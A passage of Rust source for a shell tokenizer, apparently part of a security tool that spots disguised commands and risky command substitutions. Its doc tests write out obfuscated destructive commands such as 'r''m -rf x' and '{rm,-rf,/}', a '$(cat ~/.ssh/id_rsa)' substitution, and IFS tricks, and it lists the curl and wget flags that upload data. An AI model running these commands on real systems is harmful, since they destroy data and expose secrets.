//! The tokenizer: a small POSIX-shell grammar: enough of the grammar to turn a command
//! string into simple commands (argv lists) joined by `&& || ; | &`, with
//! quoting, escapes, comments, redirects, heredocs, subshells and command
//! substitutions (parsed recursively), and variables assigned earlier in the
//! same string substituted.
//!
//! It never fails: what it cannot understand it reports in
//! [`Parsed::problems`], and parses the rest.
//!
//! # Linear time
//!
//! Every input character is read once: a `$(…)` or `<(…)` body is parsed in
//! place by the same parser (a recursive call that stops at the matching
//! `)`), not cut out and parsed again, so nesting never rescans the rest of
//! the input. A backtick body cannot contain another backtick, so its
//! sub-parse reads each character at most twice. Variable and alias
//! expansion copies at most a budget proportional to the input
//! (`Vars`); past it, names stay unexpanded and a problem says so.

use std::collections::HashMap;

/// Nesting limit for `$(…)`, backticks, `bash -c`, `eval`: deeper input is
/// reported as a problem instead of recursing.
pub const MAX_DEPTH: usize = 8;
/// At most this many simple commands are kept per input; past it a
/// problem ([`TOO_MANY_COMMANDS`]) says the rest was not kept.
const MAX_COMMANDS: usize = 1 << 16;

/// The problem reported when an input holds more than the kept number of
/// commands (callers that must fail closed look for it).
///
/// ```
/// let many = "true;".repeat(70_000);
/// assert!(palisade_shell::parse(&many).problems.iter().any(|p| p == palisade_shell::TOO_MANY_COMMANDS));
/// ```
pub const TOO_MANY_COMMANDS: &str = "too many commands; the rest were not kept";
/// At most this many words per simple command.
const MAX_WORDS: usize = 4096;

/// How a simple command's standard input is fed.
///
/// ```
/// let p = palisade_shell::parse("sh <<< 'id'");
/// assert_eq!(p.commands[0].stdin, palisade_shell::Stdin::Redirect);
/// ```
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub enum Stdin {
    /// Inherited (nothing visible feeds it).
    #[default]
    Inherited,
    /// From the previous command in a pipeline.
    Pipe,
    /// From a file redirect, heredoc or here-string.
    Redirect,
}

/// One redirect: operator and target word.
///
/// ```
/// let p = palisade_shell::parse("echo x 2>> log");
/// assert_eq!(p.commands[0].redirects[0].op, "2>>");
/// ```
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Redirect {
    /// The operator with its file descriptor (`>`, `2>>`, `<<<`, `<<-`).
    pub op: String,
    /// The target word (file, descriptor, heredoc delimiter, here-string).
    pub target: String,
}

/// A simple command: words after quote removal, its redirects and how its
/// stdin is fed.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct SimpleCommand {
    /// Its words after quote removal and expansion.
    pub words: Vec<String>,
    /// Its redirects, in order.
    pub redirects: Vec<Redirect>,
    /// How its stdin is fed.
    pub stdin: Stdin,
    /// Heredoc or here-string bodies fed to stdin (scanned for one-liners).
    pub stdin_text: Vec<String>,
    /// Whether the command's stdout goes to the next command of a pipeline.
    pub pipes_out: bool,
    /// Whether one of its words was spelled to hide what it says: empty
    /// quotes or a backslash inside a word (`r''m`, `r\m`), a letter, digit
    /// or `-` written as an ANSI-C escape (`$'\x72m'`), an unset `${IFS}`
    /// as the blank, a command name put together from two or more variables
    /// (`x=r; y=m; $x$y`). A shell reads these as the plain word; nobody
    /// writes them but to get a command past a reader.
    ///
    /// ```
    /// assert!(palisade_shell::parse(r"$'\x72\x6d' -rf x").commands[0].disguised);
    /// assert!(palisade_shell::parse("r''m -rf x").commands[0].disguised);
    /// assert!(!palisade_shell::parse(r"printf $'\x1b[31m%s\n' red").commands[0].disguised);
    /// assert!(!palisade_shell::parse(r#"\rm -f "$HOME"/x ''"#).commands[0].disguised);
    /// assert!(!palisade_shell::parse("X='' rm -rf build --opt=''").commands[0].disguised);
    /// assert!(palisade_shell::parse("x=r; y=m; $x$y -rf x").commands.iter().any(|c| c.disguised));
    /// assert!(!palisade_shell::parse("d=/srv; n=app; ls $d/$n").commands.iter().any(|c| c.disguised));
    /// assert!(!palisade_shell::parse("a=x; b=y; OUT=$a$b make").commands.iter().any(|c| c.disguised));
    /// ```
    pub disguised: bool,
}

/// The result of tokenizing a command string.
#[derive(Clone, Debug, Default)]
pub struct Parsed {
    /// Simple commands in order, including those found inside substitutions.
    pub commands: Vec<SimpleCommand>,
    /// What could not be understood (unterminated quote, too deep, …).
    pub problems: Vec<String>,
}

/// Tokenize `input`.
///
/// ```
/// let p = palisade_shell::parse("cd /tmp && r''m -rf ./x | tee log");
/// assert_eq!(p.commands[1].words, ["rm", "-rf", "./x"]);
/// assert!(p.commands[1].pipes_out);
/// assert_eq!(p.commands[2].stdin, palisade_shell::Stdin::Pipe);
/// ```
pub fn parse(input: &str) -> Parsed {
    let mut out = Parsed::default();
    let mut vars = Vars::new(input.len());
    parse_into(input, 0, &mut out, &mut vars);
    out
}

/// Tokenize `input` into `out`, with variables already known.
fn parse_into(input: &str, depth: usize, out: &mut Parsed, vars: &mut Vars) {
    if depth > MAX_DEPTH {
        out.problems.push("nesting too deep".into());
        return;
    }
    let mut p = Parser {
        chars: input.chars().collect(),
        pos: 0,
        depth,
        out,
        vars,
        pending_heredocs: Vec::new(),
        disguise: false,
        pieces: 0,
    };
    p.run(false);
}

/// At most this many variables (and aliases) are remembered.
const MAX_VARS: usize = 256;

/// Variables and aliases assigned so far in one command string.
///
/// Assignments inside a substitution do not leak out of it: every change is
/// logged, and leaving a substitution rolls the log back to where it was
/// (instead of copying the map into each substitution, which would cost the
/// size of every stored value per substitution). Expansion is charged
/// against a byte budget proportional to the input, so `A=<long>; c $A $A
/// $A …` cannot grow the words quadratically.
struct Vars {
    map: HashMap<String, String>,
    /// (name, previous value) for every change, oldest first.
    undo: Vec<(String, Option<String>)>,
    /// Bytes that expansions may still copy.
    budget: usize,
    /// Whether running out of budget was already reported.
    exhausted: bool,
}

impl Vars {
    fn new(input_len: usize) -> Self {
        Vars {
            map: HashMap::new(),
            undo: Vec::new(),
            budget: input_len.saturating_mul(4).saturating_add(4096),
            exhausted: false,
        }
    }

    fn set(&mut self, key: String, value: String) {
        if self.map.len() < MAX_VARS {
            let old = self.map.insert(key.clone(), value);
            self.undo.push((key, old));
        }
    }

    /// Undo every change made after the log had `mark` entries.
    fn rollback(&mut self, mark: usize) {
        while self.undo.len() > mark {
            let Some((key, old)) = self.undo.pop() else {
                break;
            };
            match old {
                Some(v) => self.map.insert(key, v),
                None => self.map.remove(&key),
            };
        }
    }

    /// The value of `name`, if it is set and the expansion budget allows
    /// copying it (`Err` when it is set but over budget, reported once).
    fn expand(&mut self, name: &str, problems: &mut Vec<String>) -> Option<Result<&str, ()>> {
        let value = self.map.get(name)?;
        if value.len() > self.budget {
            if !self.exhausted {
                self.exhausted = true;
                problems.push("variable expansion budget exhausted".into());
            }
            return Some(Err(()));
        }
        self.budget -= value.len();
        Some(Ok(value.as_str()))
    }
}

struct Parser<'a> {
    chars: Vec<char>,
    pos: usize,
    depth: usize,
    out: &'a mut Parsed,
    vars: &'a mut Vars,
    /// (delimiter, index of the command it feeds)
    pending_heredocs: Vec<(String, usize)>,
    /// The word being read was spelled to hide it
    /// ([`SimpleCommand::disguised`]).
    disguise: bool,
    /// Known variables expanded into the word being read: a command name
    /// put together from two or more (`x=r; y=m; $x$y -rf …`) is disguised.
    pieces: usize,
}

impl Parser<'_> {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }
    fn peek_at(&self, k: usize) -> Option<char> {
        self.chars.get(self.pos + k).copied()
    }

    /// Parse commands to the end of the input or, when `in_substitution`,
    /// to the `)` that closes the substitution being read. Returns whether
    /// that `)` was found.
    fn run(&mut self, in_substitution: bool) -> bool {
        let mut cmd = SimpleCommand::default();
        let mut next_stdin = Stdin::Inherited;
        cmd.stdin = next_stdin;
        // Open subshell parentheses inside this substitution.
        let mut open_parens = 0usize;
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { break };
            match c {
                '#' => {
                    while let Some(c) = self.peek() {
                        if c == '\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                '\n' => {
                    self.pos += 1;
                    self.finish(&mut cmd, false);
                    self.read_heredoc_bodies();
                    next_stdin = Stdin::Inherited;
                    cmd.stdin = next_stdin;
                }
                ';' | '&' | '|' | '(' | ')' => {
                    self.pos += 1;
                    if in_substitution {
                        if c == '(' {
                            open_parens += 1;
                        } else if c == ')' {
                            if open_parens == 0 {
                                self.finish(&mut cmd, false);
                                self.read_heredoc_bodies();
                                return true;
                            }
                            open_parens -= 1;
                        }
                    }
                    let mut piped = false;
                    if c == '|' {
                        if self.peek() == Some('|') {
                            self.pos += 1;
                        } else {
                            if self.peek() == Some('&') {
                                self.pos += 1;
                            }
                            piped = true;
                        }
                    } else if c == '&' {
                        if self.peek() == Some('&') {
                            self.pos += 1;
                        } else if self.peek() == Some('>') {
                            // `&>file`: redirect both streams.
                            self.pos += 1;
                            if self.peek() == Some('>') {
                                self.pos += 1;
                            }
                            self.skip_blanks();
                            let target = self.word().unwrap_or_default();
                            cmd.redirects.push(Redirect {
                                op: "&>".into(),
                                target,
                            });
                            continue;
                        }
                    } else if c == ';' && self.peek() == Some(';') {
                        self.pos += 1;
                    }
                    self.finish(&mut cmd, piped);
                    next_stdin = if piped { Stdin::Pipe } else { Stdin::Inherited };
                    cmd.stdin = next_stdin;
                }
                '<' | '>' => self.redirect(&mut cmd, None),
                _ => {
                    // A digit directly before `<`/`>` is a file descriptor.
                    if c.is_ascii_digit() && matches!(self.peek_at(1), Some('<') | Some('>')) {
                        self.pos += 1;
                        self.redirect(&mut cmd, Some(c));
                        continue;
                    }
                    if let Some(w) = self.raw_word() {
                        // `NAME=(a b c)`: an array; its elements are kept
                        // as one value split into fields when expanded.
                        if cmd.words.is_empty() && w.ends_with('=') && self.peek() == Some('(') {
                            if let Some((name, _)) = split_assignment(&w) {
                                let name = name.to_owned();
                                self.pos += 1;
                                let value = self.array_elements();
                                self.vars.set(name, value);
                                continue;
                            }
                        }
                        let pieces = std::mem::take(&mut self.pieces);
                        if std::mem::take(&mut self.disguise)
                            || (pieces >= 2
                                && split_assignment(&w).is_none()
                                && cmd.words.iter().all(|w| split_assignment(w).is_some()))
                        {
                            cmd.disguised = true;
                        }
                        if cmd.words.len() < MAX_WORDS {
                            cmd.words.push(w);
                        }
                    }
                }
            }
        }
        self.finish(&mut cmd, false);
        self.read_heredoc_bodies();
        false
    }

    /// The words of an array assignment up to its `)`, joined by
    /// [`FIELD_SPLIT`] (at most [`MAX_WORDS`]).
    fn array_elements(&mut self) -> String {
        let mut items: Vec<String> = Vec::new();
        loop {
            while self.peek().is_some_and(|c| c.is_whitespace()) {
                self.pos += 1;
            }
            match self.peek() {
                None => break,
                Some(')') => {
                    self.pos += 1;
                    break;
                }
                Some(_) => match self.word() {
                    Some(w) if items.len() < MAX_WORDS => items.push(w),
                    Some(_) => {}
                    // A character no word starts with (`;`, `|`, `(`): skip it.
                    None => self.pos += 1,
                },
            }
        }
        let mut out = String::new();
        for (i, item) in items.iter().enumerate() {
            if i > 0 {
                out.push(FIELD_SPLIT);
            }
            out.push_str(item);
        }
        out
    }

    fn skip_blanks(&mut self) {
        while let Some(c) = self.peek() {
            if c == ' ' || c == '\t' || c == '\r' {
                self.pos += 1;
            } else if c == '\\' && self.peek_at(1) == Some('\n') {
                self.pos += 2;
            } else {
                break;
            }
        }
    }

    fn finish(&mut self, cmd: &mut SimpleCommand, piped: bool) {
        let mut done = std::mem::take(cmd);
        done.pipes_out = piped;
        done.words = expand_words(std::mem::take(&mut done.words));
        // `alias c=curl` then `c …`: expand the alias in command position.
        if let Some(first) = done.words.first().filter(|_| !self.vars.map.is_empty()) {
            let key = format!("{ALIAS_PREFIX}{first}");
            if let Some(Ok(value)) = self.vars.expand(&key, &mut self.out.problems) {
                let mut expanded: Vec<String> =
                    value.split_whitespace().map(str::to_owned).collect();
                expanded.extend(done.words.drain(1..));
                done.words = expanded;
            }
        }
        // `export/declare/local/readonly NAME=value` and `alias NAME=value`.
        if let Some(first) = done.words.first().map(String::as_str) {
            let alias = first == "alias";
            if alias
                || matches!(
                    first,
                    "export" | "declare" | "local" | "readonly" | "typeset"
                )
            {
                for w in &done.words[1..] {
                    if let Some((name, value)) = split_assignment(w) {
                        let key = if alias {
                            format!("{ALIAS_PREFIX}{name}")
                        } else {
                            name.to_owned()
                        };
                        self.vars.set(key, value.to_owned());
                    }
                }
            }
        }
        // Leading NAME=value words are assignments: remember them.
        let mut assigned_only = true;
        for w in &done.words {
            match split_assignment(w) {
                Some((name, value)) => self.vars.set(name.to_owned(), value.to_owned()),
                // `c=cu; c+=rl`: an append to a variable read earlier.
                None if append_assignment(w).is_some() => {
                    if let Some((name, value)) = append_assignment(w) {
                        let old = self.vars.map.get(name).cloned().unwrap_or_default();
                        if old.len() + value.len() <= MAX_APPENDED {
                            self.vars.set(name.to_owned(), old + value);
                        }
                    }
                }
                None => {
                    assigned_only = false;
                    break;
                }
            }
        }
        if done.words.is_empty() && done.redirects.is_empty() {
            return;
        }
        if assigned_only && done.redirects.is_empty() {
            return;
        }
        if self.out.commands.len() < MAX_COMMANDS {
            self.out.commands.push(done);
        } else if !self.out.problems.iter().any(|p| p == TOO_MANY_COMMANDS) {
            self.out.problems.push(TOO_MANY_COMMANDS.into());
        }
    }

    fn redirect(&mut self, cmd: &mut SimpleCommand, fd: Option<char>) {
        let mut op = String::new();
        if let Some(d) = fd {
            op.push(d);
        }
        let first = self.peek().unwrap_or('>');
        self.pos += 1;
        op.push(first);
        // Process substitution `<(…)` / `>(…)`.
        if self.peek() == Some('(') && fd.is_none() {
            self.pos += 1;
            let _ = self.substitution();
            // The command sees a path to a pipe in the word's place (bash
            // passes `/dev/fd/N`): `sftp -b <(…) host` reads its batch
            // from there, and `host` stays the positional it is.
            cmd.words.push(PROCESS_SUBSTITUTION_PATH.into());
            return;
        }
        while let Some(c) = self.peek() {
            if c == '<' || c == '>' || c == '&' || c == '|' || c == '-' {
                // `<<`, `<<<`, `<<-`, `>>`, `>&`, `>|`.
                if c == '-' && !op.ends_with("<<") {
                    break;
                }
                if c == '&' && !(op.ends_with('>') || op.ends_with('<')) {
                    break;
                }
                op.push(c);
                self.pos += 1;
                if op.len() > 4 {
                    break;
                }
            } else {
                break;
            }
        }
        self.skip_blanks();
        let target = self.word().unwrap_or_default();
        let is_input = op.contains('<') && !op.contains('>');
        if op.ends_with("<<<") {
            cmd.stdin = Stdin::Redirect;
            cmd.stdin_text.push(target.clone());
        } else if op.ends_with("<<") || op.ends_with("<<-") {
            self.pending_heredocs
                .push((target.clone(), self.out.commands.len()));
            cmd.stdin = Stdin::Redirect;
        } else if is_input {
            cmd.stdin = Stdin::Redirect;
        }
        cmd.redirects.push(Redirect { op, target });
    }

    /// Heredoc bodies follow the line that introduced them.
    fn read_heredoc_bodies(&mut self) {
        let pending = std::mem::take(&mut self.pending_heredocs);
        for (delim, cmd_index) in pending {
            let mut body = String::new();
            let mut found = false;
            while self.pos < self.chars.len() {
                let start = self.pos;
                while self.pos < self.chars.len() && self.chars[self.pos] != '\n' {
                    self.pos += 1;
                }
                let line: String = self.chars[start..self.pos].iter().collect();
                if self.pos < self.chars.len() {
                    self.pos += 1;
                }
                if line.trim() == delim {
                    found = true;
                    break;
                }
                body.push_str(&line);
                body.push('\n');
            }
            if !found && !body.is_empty() {
                self.out
                    .problems
                    .push(format!("heredoc `{delim}` is not terminated"));
            }
            if let Some(cmd) = self.out.commands.get_mut(cmd_index) {
                cmd.stdin_text.push(body);
            }
        }
    }

    fn until_close_paren(&mut self) -> String {
        let mut depth = 1usize;
        let mut inner = String::new();
        let mut quote: Option<char> = None;
        while let Some(c) = self.peek() {
            self.pos += 1;
            match quote {
                Some(q) => {
                    if c == q {
                        quote = None;
                    } else if c == '\\' && q == '"' {
                        inner.push(c);
                        if let Some(n) = self.peek() {
                            self.pos += 1;
                            inner.push(n);
                        }
                        continue;
                    }
                }
                None => match c {
                    '\'' | '"' => quote = Some(c),
                    '(' => depth += 1,
                    ')' => {
                        depth -= 1;
                        if depth == 0 {
                            return inner;
                        }
                    }
                    _ => {}
                },
            }
            inner.push(c);
        }
        self.out.problems.push("unterminated `$(`".into());
        inner
    }

    /// Read a `` `…` `` command substitution whose opening backtick is at
    /// `pos`: its body, and whether the closing backtick was there.
    fn backtick_body(&mut self) -> (String, bool) {
        self.pos += 1;
        let start = self.pos;
        while self.peek().is_some_and(|c| c != '`') {
            self.pos += 1;
        }
        let inner: String = self.chars[start..self.pos].iter().collect();
        let closed = self.peek().is_some();
        if closed {
            self.pos += 1;
        }
        (inner, closed)
    }

    /// Parse a backtick body (already cut out) one level deeper; its
    /// assignments do not leak out.
    fn nested(&mut self, inner: &str) -> &'static str {
        let mark = self.vars.undo.len();
        let before = self.out.commands.len();
        parse_into(inner, self.depth + 1, self.out, self.vars);
        self.vars.rollback(mark);
        substitution_marker(&self.out.commands[before..])
    }

    /// Parse a `$(…)` / `<(…)` body in place, its `(` already read: the
    /// commands up to the matching `)`, one level deeper. Past the nesting
    /// limit the body is skipped (read once, not parsed) and reported.
    fn substitution(&mut self) -> &'static str {
        if self.depth >= MAX_DEPTH {
            self.out.problems.push("nesting too deep".into());
            let _ = self.until_close_paren();
            return SUBSTITUTION;
        }
        let before = self.out.commands.len();
        let mark = self.vars.undo.len();
        let outer_heredocs = std::mem::take(&mut self.pending_heredocs);
        self.depth += 1;
        let closed = self.run(true);
        self.depth -= 1;
        self.pending_heredocs = outer_heredocs;
        self.vars.rollback(mark);
        if !closed {
            self.out.problems.push("unterminated `$(`".into());
        }
        substitution_marker(&self.out.commands[before..])
    }

    /// Read one word with quote removal, substitution of known variables and
    /// recursive parsing of command substitutions.
    fn word(&mut self) -> Option<String> {
        self.raw_word().map(|w| restore_braces(&w))
    }

    /// [`Self::word`] with unquoted `{` kept as [`BRACE_OPEN`], so brace
    /// expansion touches only what a shell would expand.
    fn raw_word(&mut self) -> Option<String> {
        let mut w = String::new();
        let mut any = false;
        self.disguise = false;
        self.pieces = 0;
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => {
                    // `(` right after `=` or `$` is handled below; here it ends the word.
                    break;
                }
                '\\' => {
                    self.pos += 1;
                    match self.peek() {
                        Some('\n') => self.pos += 1,
                        Some(n) => {
                            self.pos += 1;
                            // `r\m`: a backslash inside a word before a
                            // letter (a leading `\rm` only skips an alias).
                            if !w.is_empty() && n.is_ascii_alphanumeric() {
                                self.disguise = true;
                            }
                            w.push(n);
                        }
                        None => {}
                    }
                    any = true;
                }
                '\'' => {
                    self.pos += 1;
                    let start = self.pos;
                    while self.peek().is_some_and(|c| c != '\'') {
                        self.pos += 1;
                    }
                    if start == self.pos && self.empty_quotes_inside(&w, self.pos + 1) {
                        self.disguise = true;
                    }
                    w.extend(&self.chars[start..self.pos]);
                    if self.peek().is_none() {
                        self.out.problems.push("unterminated single quote".into());
                    } else {
                        self.pos += 1;
                    }
                    any = true;
                }
                '"' => {
                    self.pos += 1;
                    let empty = self.peek() == Some('"');
                    self.double_quoted(&mut w);
                    if empty && self.empty_quotes_inside(&w, self.pos) {
                        self.disguise = true;
                    }
                    any = true;
                }
                '`' => {
                    let (inner, closed) = self.backtick_body();
                    if !closed {
                        self.out.problems.push("unterminated backtick".into());
                    }
                    let marker = self.nested(&inner);
                    w.push_str(marker);
                    any = true;
                }
                '$' => {
                    // An unquoted expansion is split into fields on blanks
                    // (`B='-rf /'; rm $B`); `$'…'` is a quote, not split.
                    let quoted = self.peek_at(1) == Some('\'');
                    let from = w.len();
                    self.dollar(&mut w);
                    if !quoted && w[from..].contains([' ', '\t', '\n']) {
                        let split: String = w[from..]
                            .chars()
                            .map(|c| if c.is_whitespace() { FIELD_SPLIT } else { c })
                            .collect();
                        w.truncate(from);
                        w.push_str(&split);
                    }
                    any = true;
                }
                '{' => {
                    self.pos += 1;
                    w.push(BRACE_OPEN);
                    any = true;
                }
                _ => {
                    self.pos += 1;
                    w.push(c);
                    any = true;
                }
            }
        }
        any.then_some(w)
    }

    fn double_quoted(&mut self, w: &mut String) {
        while let Some(c) = self.peek() {
            match c {
                '"' => {
                    self.pos += 1;
                    return;
                }
                '\\' => {
                    self.pos += 1;
                    if let Some(n) = self.peek() {
                        self.pos += 1;
                        if matches!(n, '"' | '\\' | '$' | '`') {
                            w.push(n);
                        } else if n != '\n' {
                            w.push('\\');
                            w.push(n);
                        }
                    }
                }
                '$' => self.dollar(w),
                '`' => {
                    let (inner, _) = self.backtick_body();
                    let marker = self.nested(&inner);
                    w.push_str(marker);
                }
                _ => {
                    self.pos += 1;
                    w.push(c);
                }
            }
        }
        self.out.problems.push("unterminated double quote".into());
    }

    fn dollar(&mut self, w: &mut String) {
        self.pos += 1; // the `$`
        match self.peek() {
            Some('(') => {
                self.pos += 1;
                if self.peek() == Some('(') {
                    // Arithmetic `$((…))`: keep literally.
                    self.pos += 1;
                    let inner = self.until_close_paren();
                    if self.peek() == Some(')') {
                        self.pos += 1;
                    }
                    w.push_str("$((");
                    w.push_str(&inner);
                    w.push_str("))");
                    return;
                }
                let marker = self.substitution();
                w.push_str(marker);
            }
            Some('{') => {
                self.pos += 1;
                let start = self.pos;
                while self.peek().is_some_and(|c| c != '}') {
                    self.pos += 1;
                }
                let inner: String = self.chars[start..self.pos].iter().collect();
                if self.peek().is_some() {
                    self.pos += 1;
                }
                let name: String = inner
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                // `${NAME:-default}` / `${NAME-default}` / `${NAME:=default}`:
                // the value when set here, else the default (a literal).
                let modifier = &inner[name.len()..];
                let default = modifier
                    .strip_prefix(":-")
                    .or_else(|| modifier.strip_prefix(":="))
                    .or_else(|| modifier.strip_prefix('-'))
                    .or_else(|| modifier.strip_prefix('='));
                // `${NAME[@]}`, `${NAME[*]}`: every element of an array.
                let all_elements = matches!(modifier, "[@]" | "[*]");
                let known = if modifier.is_empty() || default.is_some() || all_elements {
                    self.vars.expand(&name, &mut self.out.problems)
                } else {
                    self.vars.map.get(&name).map(|_| Err(()))
                };
                let default = default.filter(|d| !d.contains(['$', '`']));
                match known {
                    Some(Ok(v)) => {
                        self.pieces += 1;
                        w.push_str(v);
                    }
                    // `${IFS}`, `${IFS:0:1}`, `${IFS%?}`, `${IFS#?}`: blanks of
                    // an unset IFS, whatever part of it is taken.
                    None if name == "IFS" => {
                        self.disguise = true;
                        w.push(FIELD_SPLIT);
                    }
                    None if !name.is_empty() && default.is_some() => {
                        w.push_str(default.unwrap_or_default());
                    }
                    _ => {
                        w.push_str("${");
                        w.push_str(&inner);
                        w.push('}');
                    }
                }
            }
            Some('\'') => {
                // ANSI-C quoting `$'…'`.
                self.pos += 1;
                self.ansi_c(w);
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                let start = self.pos;
                while self
                    .peek()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
                {
                    self.pos += 1;
                }
                let name: String = self.chars[start..self.pos].iter().collect();
                match self.vars.expand(&name, &mut self.out.problems) {
                    Some(Ok(v)) => {
                        self.pieces += 1;
                        w.push_str(v);
                    }
                    None if name == "IFS" => {
                        self.disguise = true;
                        w.push(FIELD_SPLIT);
                    }
                    _ => {
                        w.push('$');
                        w.push_str(&name);
                    }
                }
            }
            _ => w.push('$'),
        }
    }

    /// Push the character an ANSI-C escape gives; a letter, digit or `-`
    /// spelled as one disguises the word (`\x1b`, `\n` do not).
    fn escaped(&mut self, w: &mut String, v: u32) {
        if let Some(ch) = char::from_u32(v) {
            if ch.is_ascii_alphanumeric() || ch == '-' {
                self.disguise = true;
            }
            w.push(ch);
        }
    }

    /// Whether an empty quote pair just read sits inside a word
    /// (`r''m`, `''rm`), not standing alone as an empty argument; `next`:
    /// where the word goes on after it.
    fn empty_quotes_inside(&self, w: &str, next: usize) -> bool {
        let next = self.chars.get(next).copied();
        let letters_after = next.is_some_and(|c| c.is_alphanumeric() || c == '-' || c == '/');
        // `--format=''`, `X=''`: an empty value, not a split word.
        letters_after || (!w.is_empty() && !w.ends_with('='))
    }

    fn ansi_c(&mut self, w: &mut String) {
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                '\'' => return,
                '\\' => {
                    let Some(n) = self.peek() else { break };
                    self.pos += 1;
                    match n {
                        'n' => w.push('\n'),
                        't' => w.push('\t'),
                        'x' => {
                            let mut v = 0u32;
                            let mut k = 0;
                            while k < 2 && self.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                                v = v * 16 + self.peek().and_then(|c| c.to_digit(16)).unwrap_or(0);
                                self.pos += 1;
                                k += 1;
                            }
                            self.escaped(w, v);
                        }
                        '0'..='7' => {
                            let mut v = n.to_digit(8).unwrap_or(0);
                            let mut k = 1;
                            while k < 3 && self.peek().is_some_and(|c| ('0'..='7').contains(&c)) {
                                v = v * 8 + self.peek().and_then(|c| c.to_digit(8)).unwrap_or(0);
                                self.pos += 1;
                                k += 1;
                            }
                            self.escaped(w, v);
                        }
                        other => w.push(other),
                    }
                }
                other => w.push(other),
            }
        }
        self.out.problems.push("unterminated $' quote".into());
    }
}

/// What a command substitution leaves in a word: its output is unknown and
/// may carry local data (`$(cat ~/.ssh/id_rsa)`).
pub const SUBSTITUTION: &str = "$(…)";
/// What a substitution whose commands only describe the machine or fetch
/// something (`$(uname -m)`, `$(lsb_release -cs)`, `$(curl -s …/stable.txt)`)
/// leaves in a word: still unknown text, but not local data.
pub const HARMLESS_SUBSTITUTION: &str = "$(:)";

/// What a substitution that prints an access token for a service
/// (`$(gcloud auth print-access-token)`, `$(gh auth token)`) leaves in a
/// word: a credential meant for an `Authorization` header, still data when
/// it is put in a URL.
pub const TOKEN_SUBSTITUTION: &str = "$(*)";

/// What a substitution that makes a fresh temporary file or directory
/// (`$(mktemp -d)`) leaves in a word: a path of its own under the temporary
/// directory.
pub const TEMP_SUBSTITUTION: &str = "$(mktemp)";

/// The marker for a substitution made of these commands.
/// The word a process substitution `<(…)` / `>(…)` leaves in its command's
/// arguments: the path bash passes for the pipe.
pub const PROCESS_SUBSTITUTION_PATH: &str = "/dev/fd/63";

fn substitution_marker(cmds: &[SimpleCommand]) -> &'static str {
    if cmds.is_empty() || cmds.len() > 8 {
        SUBSTITUTION
    } else if cmds.iter().all(harmless_in_substitution) {
        HARMLESS_SUBSTITUTION
    } else if cmds.len() == 1 && prints_access_token(&cmds[0]) {
        TOKEN_SUBSTITUTION
    } else if cmds.len() == 1 && makes_temp(&cmds[0]) {
        TEMP_SUBSTITUTION
    } else {
        SUBSTITUTION
    }
}

/// `mktemp [-d] [-t] [TEMPLATE]` with no template outside the temporary
/// directory (`-p DIR` or a template with a `/` is not counted).
fn makes_temp(cmd: &SimpleCommand) -> bool {
    let Some(first) = cmd.words.first() else {
        return false;
    };
    first.rsplit('/').next() == Some("mktemp")
        && cmd.stdin == Stdin::Inherited
        && cmd.words[1..].iter().all(|a| {
            matches!(
                a.as_str(),
                "-d" | "-t" | "-u" | "-q" | "--directory" | "--tmpdir"
            ) || (!a.starts_with('-') && !a.contains('/') && !a.contains('$'))
        })
}

/// `gcloud auth print-access-token`, `gh auth token`, `az account
/// get-access-token`, `aws … get-login-password`: a CLI printing its own
/// access token.
fn prints_access_token(cmd: &SimpleCommand) -> bool {
    let Some(first) = cmd.words.first() else {
        return false;
    };
    let name = first.rsplit('/').next().unwrap_or(first);
    let has = |w: &str| cmd.words.iter().any(|a| a == w);
    cmd.stdin == Stdin::Inherited
        && cmd.redirects.iter().all(|r| !r.op.contains('<'))
        && match name {
            "gcloud" => has("auth") && (has("print-access-token") || has("print-identity-token")),
            "gh" => has("auth") && has("token"),
            "az" => has("get-access-token"),
            "aws" => has("get-login-password") || has("get-authorization-token"),
            _ => false,
        }
}

/// Commands whose output names the platform, a version or a downloaded
/// value rather than local data: the usual parts of an installer URL.
fn harmless_in_substitution(cmd: &SimpleCommand) -> bool {
    let Some(first) = cmd.words.first() else {
        return false;
    };
    let name = first.rsplit('/').next().unwrap_or(first);
    let args = &cmd.words[1..];
    if args.iter().any(|a| a.contains(SUBSTITUTION)) {
        return false;
    }
    let no_input_redirect = cmd.redirects.iter().all(|r| !r.op.contains('<'));
    match name {
        "uname" | "arch" | "date" | "lsb_release" | "dpkg-architecture" | "nproc" | "getconf"
        | "which" | "type" => no_input_redirect,
        "dpkg" => args.iter().all(|a| a == "--print-architecture"),
        "command" => args.first().is_some_and(|a| a == "-v"),
        "id" => args
            .iter()
            .all(|a| matches!(a.as_str(), "-u" | "-g" | "-un" | "-gn" | "-ru")),
        "git" => args
            .first()
            .is_some_and(|a| matches!(a.as_str(), "rev-parse" | "describe" | "symbolic-ref")),
        "tr" | "cut" | "sed" | "awk" | "head" | "tail" | "grep" | "sort" | "xargs" | "jq" => {
            cmd.stdin == Stdin::Pipe && no_input_redirect
        }
        "curl" | "wget" => {
            no_input_redirect
                && cmd.stdin == Stdin::Inherited
                && !args.iter().any(|a| {
                    let a = a.as_str();
                    a.starts_with("--data")
                        || a.starts_with("--form")
                        || a.starts_with("--upload")
                        || a.starts_with("--post")
                        || a.starts_with("--body")
                        || a.starts_with("--json")
                        || a.starts_with("--request")
                        || a.starts_with("--method")
                        || a.starts_with("-K")
                        || a.starts_with("--config")
                        || (a.starts_with('-')
                            && !a.starts_with("--")
                            && a.contains(['d', 'F', 'T', 'X', 'K']))
                })
        }
        _ => false,
    }
}

/// Marks where an unset `$IFS` splits a word (`curl${IFS}-d…`).
const FIELD_SPLIT: char = '\u{1F}';
/// Aliases live in the variable map under this prefix (not a valid name).
const ALIAS_PREFIX: &str = "alias ";

/// Split words on `$IFS` markers and expand one simple `{a,b,c}` brace
/// list per word (`{rm,-rf,/}`, `/{etc,usr}`, `x{1,2}.txt`) into words.
fn expand_words(words: Vec<String>) -> Vec<String> {
    let mut out = Vec::with_capacity(words.len());
